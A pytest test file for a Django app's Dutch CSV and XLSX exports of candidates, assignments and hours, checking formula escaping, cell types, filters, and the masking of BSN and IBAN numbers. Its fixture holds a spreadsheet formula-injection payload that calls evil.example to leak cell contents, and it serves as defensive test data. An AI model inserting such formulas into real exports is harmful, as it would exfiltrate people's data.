"""Exports of the coordinator's lists: Dutch CSV and typed XLSX, formula-safe, the page's
filters, no full BSN and a masked IBAN."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.test import Client as HttpClient
from django.utils import translation
from openpyxl import load_workbook

from core.exports import Column, csv_value, xlsx_bytes
from placements.models import Assignment, Candidate
from tests.placements.factories import AssignmentFactory, CandidateFactory, TimeEntryFactory

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
BSN = "111222333"


@pytest.fixture
def coordinator_client(town_coordinator):
    client = HttpClient()
    client.force_login(town_coordinator)
    return client


def _dutch(label) -> str:
    """A label as the Dutch catalogue has it (`make messages` compiles it)."""
    with translation.override("nl"):
        return str(label)


def _csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff"), "Excel needs the byte-order mark to read UTF-8"
    return list(csv.reader(io.StringIO(body[1:]), delimiter=";"))


def _sheet(response):
    return load_workbook(io.BytesIO(response.content)).active


# --- The writer ---------------------------------------------------------------------------------


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_quotes_text_that_a_spreadsheet_would_run(first):
    assert csv_value(f"{first}SUM(A1:A9)") == f"'{first}SUM(A1:A9)"


@pytest.mark.parametrize(
    ("value", "text"),
    [
        ("Jansen", "Jansen"),
        ("a=b", "a=b"),
        (Decimal("-12.50"), "-12,50"),  # a number stays a number
        (Decimal("1234.5"), "1234,5"),
        (datetime.date(2026, 3, 1), "01-03-2026"),
        (True, "ja"),
        (False, "nee"),
        (None, ""),
        (7, "7"),
    ],
)
def test_csv_values_for_dutch_excel(value, text):
    assert csv_value(value) == text


def test_csv_refuses_floats():
    with pytest.raises(TypeError):
        csv_value(1.5)


def test_xlsx_writes_text_as_text_and_keeps_types():
    columns = [Column("Tekst", lambda r: r[0]), Column("Datum", lambda r: r[1])]
    columns.append(Column("Bedrag", lambda r: r[2]))
    data = xlsx_bytes(
        title="Proef",
        columns=columns,
        objects=[(HOSTILE, datetime.date(2026, 3, 1), Decimal("-3.25")), ("+31 6", None, None)],
    )

    sheet = load_workbook(io.BytesIO(data)).active
    text, day, amount = sheet[2]
    assert (text.value, text.data_type) == (HOSTILE, "s")
    assert text.quotePrefix
    assert day.value == datetime.datetime(2026, 3, 1)
    assert day.number_format == "DD-MM-YYYY"
    assert (amount.value, amount.data_type) == (-3.25, "n")
    assert (sheet["A3"].value, sheet["A3"].data_type) == ("+31 6", "s")
    assert b"<f>" not in data  # no formula anywhere in the file


# --- The candidate export ------------------------------------------------------------------------


@pytest.fixture
def candidates(town, other_town):
    return [
        CandidateFactory(
            municipality=town,
            first_name=HOSTILE,
            last_name="Smit",
            client_number="G-1",
            bsn=BSN,
            birth_date=datetime.date(1980, 5, 17),
        ),
        CandidateFactory(municipality=town, first_name="Carla", last_name="Berg", status="ended"),
        CandidateFactory(municipality=other_town, first_name="Bert", last_name="Kok"),
    ]


@pytest.mark.django_db
def test_candidate_csv(candidates, coordinator_client):
    response = coordinator_client.get("/kandidaten/?format=csv&q=smit")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="kandidaten-')
    header, *rows = _csv_rows(response)
    assert header[:4] == ["Klantnummer", "Voornaam", "Achternaam", "Geboortedatum"]
    assert len(rows) == 1  # the page's filter applies
    row = dict(zip(header, rows[0], strict=True))
    assert row["Voornaam"] == "'" + HOSTILE
    assert row["Geboortedatum"] == "17-05-1980"
    assert row["Gemeente"] == "Groningen"
    assert row["Status"] == _dutch(Candidate.Status.ACTIVE.label)  # "Actief"
    assert row["BSN geregistreerd"] == "ja"
    assert row["IBAN (gemaskeerd)"] == "NL************4300"
    assert BSN not in str(rows) and "2333" not in str(rows)


@pytest.mark.django_db
def test_candidate_xlsx(candidates, coordinator_client):
    response = coordinator_client.get("/kandidaten/?format=xlsx")

    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = _sheet(response)
    header = [cell.value for cell in sheet[1]]
    names = {row[1].value: row for row in sheet.iter_rows(min_row=2)}
    assert set(names) == {HOSTILE, "Carla"}  # not the other municipality's candidate
    hostile = dict(zip(header, names[HOSTILE], strict=True))
    assert hostile["Voornaam"].data_type == "s"
    assert hostile["Geboortedatum"].value == datetime.datetime(1980, 5, 17)
    assert b"<f>" not in response.content
    assert BSN.encode() not in response.content


@pytest.mark.django_db
def test_status_filter_applies_to_the_export(candidates, coordinator_client):
    _header, *rows = _csv_rows(coordinator_client.get("/kandidaten/?format=csv&status=ended"))
    assert [row[1] for row in rows] == ["Carla"]


# --- The assignment and hours exports --------------------------------------------------------------


@pytest.mark.django_db
def test_assignment_export(town, other_town, coordinator_client, framework):
    candidate = CandidateFactory(municipality=town, first_name="Anna", last_name="Smit")
    AssignmentFactory(
        candidate=candidate,
        hourly_rate=Decimal("16.50"),
        is_long=True,
        is_large_or_long=True,
        work_description="-1+1 sorteren",
    )
    AssignmentFactory(candidate=CandidateFactory(municipality=other_town, last_name="Kok"))

    header, *rows = _csv_rows(coordinator_client.get("/opdrachten/?format=csv&flag=yes"))

    assert len(rows) == 1
    row = dict(zip(header, rows[0], strict=True))
    assert row["Kandidaat"] == "Smit, Anna"
    assert row["Uurtarief"] == "16,50"
    assert row["Startdatum"] == "02-03-2026"
    assert row["Status"] == _dutch(Assignment.Status.REQUESTED.label)  # "Aangevraagd"
    assert row["Groot of langdurig"] == "ja"
    assert row["Werkzaamheden"] == "'-1+1 sorteren"

    sheet = _sheet(coordinator_client.get("/opdrachten/?format=xlsx&flag=yes"))
    header = [cell.value for cell in sheet[1]]
    cells = dict(zip(header, next(sheet.iter_rows(min_row=2)), strict=True))
    assert cells["Uurtarief"].value == 16.5 and cells["Uurtarief"].data_type == "n"
    assert cells["Werkzaamheden"].value == "-1+1 sorteren"
    assert cells["Werkzaamheden"].data_type == "s"


@pytest.mark.django_db
def test_hours_export_sums_by_status(town, other_town, coordinator_client):
    anna = CandidateFactory(municipality=town, first_name="Anna", last_name="Smit")
    assignment = AssignmentFactory(candidate=anna, active=True)
    now = datetime.datetime.now(datetime.UTC)
    for day, hours, status in [
        (3, "8.00", "entered"),
        (4, "2.25", "approved"),
        (5, "1.75", "invoiced"),
    ]:
        TimeEntryFactory(
            assignment=assignment,
            work_date=datetime.date(2026, 3, day),
            hours=Decimal(hours),
            status=status,
            approved_at=None if status == "entered" else now,
        )
    TimeEntryFactory(
        assignment=AssignmentFactory(
            candidate=CandidateFactory(municipality=other_town, last_name="Kok"), active=True
        )
    )

    response = coordinator_client.get("/uren/?month=2026-03&format=csv")

    assert response["Content-Disposition"] == 'attachment; filename="uren-2026-03.csv"'
    header, *rows = _csv_rows(response)
    assert len(rows) == 1
    row = dict(zip(header, rows[0], strict=True))
    assert row["Maand"] == "03-2026"
    assert (row["Uren ingevoerd"], row["Uren goedgekeurd"]) == ("8,00", "2,25")
    assert (row["Uren gefactureerd"], row["Uren totaal"]) == ("1,75", "12,00")

    sheet = _sheet(coordinator_client.get("/uren/?month=2026-03&format=xlsx"))
    header = [cell.value for cell in sheet[1]]
    cells = dict(zip(header, next(sheet.iter_rows(min_row=2)), strict=True))
    assert cells["Uren totaal"].value == 12
    assert cells["Uren totaal"].data_type == "n"


@pytest.mark.django_db
def test_unknown_format_shows_the_page(town, coordinator_client):
    response = coordinator_client.get("/kandidaten/?format=pdf")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")
